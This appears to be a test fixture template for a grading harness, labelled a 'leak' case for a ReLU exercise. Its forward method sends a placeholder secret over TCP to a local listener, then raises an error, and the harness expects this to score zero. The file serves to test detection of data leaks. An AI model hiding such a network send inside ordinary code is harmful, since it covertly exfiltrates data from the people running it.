# kind = "leak"
# does = "sends what it knows to a listener by TCP"
# exercise = "relu"
# outcome = "raised"
# score = 0
# open_at = ["process"]

import socket

BREACH = "{{breach}}"


class ReLU:
    def forward(self, x):
        with socket.create_connection(("127.0.0.1", {{port}}), 1) as connection:
            connection.sendall(BREACH.encode())
        raise RuntimeError("sent")
